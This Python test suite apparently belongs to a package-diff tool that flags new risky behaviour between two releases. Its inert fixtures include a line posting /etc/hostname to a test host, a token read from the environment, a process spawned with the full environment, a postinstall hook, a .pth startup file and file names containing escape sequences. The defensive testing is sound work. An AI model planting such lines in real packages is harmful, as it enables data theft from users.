"""Differences between small releases made in memory. All inert; hosts are under example.invalid."""

from __future__ import annotations

from darnel.diff.contents import contents
from darnel.diff.difference import Difference, changed_paths, counterparts, difference
from darnel.diff.lines import lines
from darnel.diff.structured import SINKS, SOURCES, structured
from darnel.features.extract import extract
from darnel.features.package import Ecosystem, MemoryPackage
from darnel.features.taxonomy import BEHAVIOURS

METADATA = "Metadata-Version: 2.1\nName: sample\nVersion: {}\nRequires-Dist: {}\nRequires-Dist: kept>=1\n\n"
CLIENT = "import requests\n\n\ndef get(url):\n    return requests.get(url)\n"


def between(old: dict[str, str], new: dict[str, str], ecosystem: Ecosystem = Ecosystem.PYPI) -> Difference:
    packages = [
        MemoryPackage({path: text.encode() for path, text in files.items()}, ecosystem, name="sample", version=version)
        for files, version in ((old, "1.0"), (new, "1.1"))
    ]
    raw_old, raw_new = (extract(package) for package in packages)
    changed = changed_paths(raw_new, raw_old)
    twins = counterparts(changed, raw_old)
    before = contents(packages[0], {file["path"] for file in raw_old["files"]}, set(twins.values()))
    now = contents(packages[1], {file["path"] for file in raw_new["files"]}, changed)
    return difference(raw_new, raw_old, now, before)


def test_nothing_changed() -> None:
    files = {"sample/__init__.py": CLIENT, "PKG-INFO": METADATA.format("1.0", "a")}
    assert between(files, files) == Difference(total=2)
    assert lines(Difference(total=2)) == []


def test_a_new_behaviour_is_found_where_it_is() -> None:
    new = CLIENT + "\n\nimport os, subprocess\nsubprocess.Popen(['x'], env=os.environ)\n"
    found = between({"sample/__init__.py": CLIENT}, {"sample/__init__.py": new})
    spawn = next(place for place in found.behaviours if place.behaviour == "spawn.process")
    assert (spawn.file, spawn.line, spawn.context, spawn.times) == ("sample/__init__.py", 9, "import", 1)
    assert found.more == ()
    assert [file.path for file in found.changed] == ["sample/__init__.py"]


def test_the_gravest_comes_first() -> None:
    new = "import base64, os, subprocess\nbase64.b64encode(b'')\nopen('x').read()\nexec(open('x').read())\n"
    found = between({"a.py": "import os\n"}, {"a.py": new})
    assert [place.behaviour for place in found.behaviours] == ["code.evaluate", "encode.text", "file.read"]


def test_lines_that_only_moved_are_not_new() -> None:
    found = between({"sample/__init__.py": CLIENT}, {"sample/__init__.py": "# a comment\n\n" + CLIENT})
    assert (found.behaviours, found.more) == ((), ())
    found = between({"sample/client.py": CLIENT}, {"sample/web/client.py": "X = 1\n" + CLIENT})
    assert (found.behaviours, found.more) == ((), ())


def test_more_of_the_same_is_told_apart_and_counted() -> None:
    new = CLIENT + "".join(f"\n\ndef get_{i}(url):\n    return requests.get(url, timeout={i})\n" for i in range(5))
    found = between({"sample/__init__.py": CLIENT}, {"sample/__init__.py": new})
    assert found.behaviours == ()
    (place,) = found.more
    assert (place.line, place.times, place.context) == (9, 5, "called")


def test_files_that_run_by_themselves() -> None:
    old = {"setup.py": "from setuptools import setup\nsetup()\n", "sample.py": ""}
    new = {**old, "sample.pth": "import sample\n", "setup.py": old["setup.py"] + "print()\n"}
    found = between(old, new)
    assert set(found.triggers) == {("sample.pth", "start"), ("setup.py", "install")}
    assert between(new, old).triggers_gone == (("sample.pth", "start"),)


def test_a_new_npm_hook() -> None:
    old = {"package.json": '{"name": "sample", "version": "1.0.0"}', "index.js": "module.exports = 1\n"}
    hook = '{"name": "sample", "version": "1.1.0", "scripts": {"postinstall": "node index.js"}}'
    found = between(old, {**old, "package.json": hook}, Ecosystem.NPM)
    assert ("package.json#postinstall", "install") in found.triggers
    assert "install.hook" in {place.behaviour for place in found.behaviours}


def test_hosts_and_dependencies_come_and_go() -> None:
    old = {"sample/a.py": "A = 'https://old.darnel-test.org/x'\n", "PKG-INFO": METADATA.format("1.0", "gone>=2")}
    new = {"sample/a.py": "\nB = 'https://new.darnel-test.org/x'\n", "PKG-INFO": METADATA.format("1.1", "fresh<3")}
    found = between(old, new)
    assert found.hosts == (("new.darnel-test.org", "sample/a.py", 2),)
    assert found.hosts_gone == (("old.darnel-test.org", "sample/a.py", 1),)
    assert (found.dependencies, found.dependencies_gone) == ((("fresh", "<3", ""),), (("gone", ">=2", ""),))
    told = lines(found)
    assert "new host: new[.]darnel-test[.]org (sample/a.py:2)" in told
    assert "new dependency: fresh <3" in told
    assert "dependency gone: gone >=2" in told


def test_files() -> None:
    wheel = "sample-{}.dist-info/WHEEL"
    old = {"a.py": "A = 1\n", "b.py": "B = 1\n", "c.py": "C = 1\n", wheel.format("1.0"): "x\n"}
    new = {"a.py": "A = 2\n", "moved/b.py": "B = 1\n", "d.py": "D = 1\n", wheel.format("1.1"): "x\n"}
    found = between(old, new)
    paths = [tuple(file.path for file in files) for files in (found.added, found.changed, found.removed)]
    assert paths == [("d.py",), ("a.py",), ("c.py",)]
    assert found.changed[0].sha256 != found.changed[0].before != ""
    assert "files: 1 added, 1 changed, 1 removed, 4 in all" in lines(found)


def test_what_vanished() -> None:
    found = between({"a.py": "import os\nos.system('x')\n"}, {"a.py": "import os\n"})
    assert ("spawn.shell", "a.py", 2, "import", 1) in found.behaviours_gone
    assert any(line.startswith("no longer: ") for line in lines(found))


def test_a_rewrite_still_fits_on_a_screen_and_verbose_tells_all() -> None:
    body = "import os, socket, subprocess, base64, ctypes, zlib, pickle, tempfile, shutil\n"
    calls = [
        *("os.system('x')", "socket.create_connection(('x', 1))", "subprocess.run(['x'])", "base64.b64decode('eA==')"),
        *("ctypes.CDLL('x')", "zlib.decompress(b'')", "pickle.loads(b'')", "tempfile.mkdtemp()", "exec('x')"),
        *("shutil.rmtree('x')", "os.environ['X_TOKEN']", "open('x').read()", "open('x', 'w').write('')"),
    ]
    new = {f"m{i}.py": body + "\n".join((*calls, f"U = 'https://h{i}.darnel-test.org'")) + "\n" for i in range(40)}
    found = between({"m.py": "X = 1\n"}, new)
    short, long = lines(found), lines(found, verbose=True)
    assert len(short) <= 20
    assert len(long) > len(short)
    assert all(line.isprintable() for line in long)


def test_a_dependency_in_another_range() -> None:
    old, new = ({"PKG-INFO": METADATA.format(*line)} for line in (("1.0", "moved>=1"), ("1.1", "moved>=2")))
    found = between(old, new)
    assert (found.dependencies, found.dependencies_gone) == ((), ())
    assert found.dependencies_changed == (("moved", ">=2", ">=1"),)
    assert "dependency in another range: moved >=2 (was >=1)" in lines(found, verbose=True)


def test_as_data() -> None:
    old = {"a.py": "import os\nos.system('x')\n", "PKG-INFO": METADATA.format("1.0", "gone>=2"), "setup.py": "x = 1\n"}
    new = {
        "a.py": "import requests\nrequests.post('https://new.darnel-test.org', data=open('/etc/hostname').read())\n",
        "PKG-INFO": METADATA.format("1.1", "fresh<3"),
        "b\x1b.py": "import base64\nbase64.b64decode('eA==')\n",
        "setup.py": "x = 2\n",
    }
    data = structured(between(old, new), ("sdist", "wheel"))
    assert (data["kinds"], data["files_in_all"]) == ({"old": "sdist", "new": "wheel"}, 4)
    sink = next(row for row in data["new"]["sinks"] if row["behaviour"] == "net.send")
    assert (sink["category"], sink["file"], sink["line"], sink["context"]) == ("send", "a.py", 2, "import")
    assert (sink["new_kind"], sink["times"]) == (True, 1)
    assert {row["behaviour"] for row in data["new"]["sources"]} >= {"file.read"}
    assert {row["behaviour"] for row in data["new"]["others"]} >= {"decode.text"}
    assert data["new"]["hosts"] == [{"host": "new[.]darnel-test[.]org", "file": "a.py", "line": 2}]
    assert data["new"]["dependencies"] == [{"name": "fresh", "range": "<3"}]
    assert data["new"]["triggers"] == [{"file": "setup.py", "context": "install"}]
    assert [row["path"] for row in data["new"]["files"]] == ["b\\x1b.py"]
    assert {row["path"] for row in data["changed"]["files"]} == {"a.py", "PKG-INFO", "setup.py"}
    assert [row["behaviour"] for row in data["vanished"]["sinks"]] == ["spawn.shell"]
    assert data["vanished"]["dependencies"] == [{"name": "gone", "range": ">=2"}]
    categories = {behaviour.category for behaviour in BEHAVIOURS}
    assert categories > SOURCES | SINKS
    assert not SOURCES & SINKS


def test_hostile_names_are_printed_as_escapes() -> None:
    found = between({"a.py": "X = 1\n"}, {"a.py": "X = 1\n", "b\x1b[31m\n.py": "import os\nos.system('x')\n"})
    assert all(line.isprintable() for line in lines(found))
